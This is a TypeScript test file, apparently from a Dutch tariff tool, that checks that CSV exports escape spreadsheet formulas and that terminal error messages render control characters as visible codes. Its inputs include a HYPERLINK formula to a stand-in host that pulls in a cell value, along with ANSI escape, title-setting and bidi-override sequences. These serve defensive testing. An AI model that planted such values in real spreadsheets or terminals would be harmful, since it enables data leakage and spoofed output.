/**
 * Text from a set is data, never a command: no formula in tarieven.csv (OWASP CSV injection), no control
 * character in a terminal or CI log. Expected values: the rules in src/render/csv.ts and src/shared/stuurtekens.ts.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { csvVeld, naarCsv } from '../../src/render/csv.ts';
import { zichtbaar } from '../../src/shared/stuurtekens.ts';
import { laadParameterset } from '../../src/params/laden.ts';
import { berekenTarieven } from '../../src/model/bereken.ts';
import { KOLOMMEN, tarievenTabel } from '../../src/docmodel/tarieventabel.ts';
import { voerUit } from './hulp.ts';

const ROOT = path.resolve(import.meta.dirname, '..', '..');
const werk = mkdtempSync(path.join(tmpdir(), 'tariefbouw-veilig-'));
afterAll(() => rmSync(werk, { recursive: true, force: true }));
const set = path.join(werk, 'models/volledig');
cpSync(path.join(ROOT, 'test/fixtures/sets/volledig'), set, { recursive: true });

function wijzig(bestand: string, van: string, naar: string) {
  const p = path.join(set, bestand);
  const oud = readFileSync(p, 'utf8');
  expect(oud).toContain(van);
  writeFileSync(p, oud.replace(van, naar));
  return () => writeFileSync(p, oud);
}

describe('CSV-injectie', () => {
  it.each([
    ['=HYPERLINK("https://x.example","klik")', `"'=HYPERLINK(""https://x.example"",""klik"")"`],
    ['+31 6 1234', `"'+31 6 1234"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tverborgen', `"'\tverborgen"`],
    ['\r=1', `"'\r=1"`],
    ['-1.50', '-1.50'],
    ['42.29', '42.29'],
    ['Ambulant, hbo', '"Ambulant, hbo"'],
    ['Begeleiding', 'Begeleiding'],
  ])('%j → %s', (v, csv) => {
    expect(csvVeld(v)).toBe(csv);
  });

  it('een productnaam als formule staat als tekst in tarieven.csv', () => {
    const terug = wijzig('producten/jeugd.yaml', 'naam: Ambulante jeugdhulp hbo', `naam: '=HYPERLINK("https://x.example/?d="&A1,"klik")'`);
    try {
      const { set: s } = laadParameterset(set, { weergaveBasis: werk });
      const csv = naarCsv(KOLOMMEN, tarievenTabel(berekenTarieven(s)));
      const regels = csv.split('\n').filter((r) => r.startsWith('45A01,'));
      expect(regels.length).toBeGreaterThan(0);
      for (const r of regels) expect(r.startsWith(`45A01,"'=HYPERLINK(""https://x.example/?d=""&A1,""klik"")",`)).toBe(true);
      expect(csv.split('\n').some((r) => /(^|,)[=+@]/.test(r))).toBe(false);
    } finally {
      terug();
    }
  });
});

describe('stuurtekens in meldingen', () => {
  it('zichtbaar toont ESC, CR, U+2028 en bidi-tekens als code; regeleinde en tab blijven', () => {
    expect(zichtbaar('a\u001b[2Kb\rc\u2028d\u202ee\tf\ng\u0000')).toBe('a\\u001b[2Kb\\u000dc\\u2028d\\u202ee\tf\ng\\u0000');
  });

  // The read side refuses control characters in a set (src/params), so they stop at `controleer` with a
  // positioned error; `zichtbaar` is the second line of defence for everything else that reaches a terminal.
  it('controleer met een waarde vol stuurtekens: een fout met plek, niets ruws in de uitvoer', async () => {
    const terug = wijzig('opslagen.yaml', '    waarde: 20\n', '    waarde: "\\e[2K\\r2\\L0\\u202e"\n');
    try {
      const r = await voerUit(['controleer', 'models/volledig'], werk);
      expect(r.code).toBe(1);
      expect(r.err).toContain('models/volledig/opslagen.yaml:6:13: fout: onzichtbaar stuurteken in een tekst');
      expect(r.err).toContain('gevonden: het stuurteken U+001B (ESC), geschreven als \\-code tussen aanhalingstekens');
      expect(r.out + r.err).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u2028\u2029\u202a-\u202e]/);
    } finally {
      terug();
    }
  });

  it('verklaar met een productnaam vol stuurtekens: geweigerd met plek, niets ruws op stdout of stderr', async () => {
    const terug = wijzig('producten/jeugd.yaml', 'naam: Ambulante jeugdhulp hbo', 'naam: "Ambulant\\e]0;titel\\a\\rhbo"');
    try {
      const r = await voerUit(['verklaar', '45A01', '--set', 'models/volledig', '--variant', 'alfa'], werk);
      expect(r.code).toBe(1);
      expect(r.err).toContain('models/volledig/producten/jeugd.yaml:6:11: fout: onzichtbaar stuurteken in een tekst');
      expect(r.out + r.err).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u2028\u2029\u202a-\u202e]/);
    } finally {
      terug();
    }
  });

  // The loader refuses control characters in a set's text (src/params); what else reaches a message, such as
  // an argument echoed back, is neutralised on the way out.
  it('een productcode vol stuurtekens in de melding van verklaar: als code, niets ruws', async () => {
    const r = await voerUit(['verklaar', '45A\u001b[2K01\r\u2028\u202e', '--set', 'models/volledig'], werk);
    expect(r.code).toBe(1);
    expect(r.err).toContain('fout: product 45A\\u001b[2K01\\u000d\\u2028\\u202e bestaat niet');
    expect(r.err).not.toMatch(/[\u001b\r\u2028\u202e]/);
  });

  it('een setnaam vol stuurtekens in de melding van controleer: als code, niets ruws', async () => {
    const r = await voerUit(['controleer', 'models/vol\u001b]0;titel\u0007ledig'], werk);
    expect(r.code).toBe(1);
    expect(r.err).toContain('vol\\u001b]0;titel\\u0007ledig');
    expect(r.err).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
  });
});
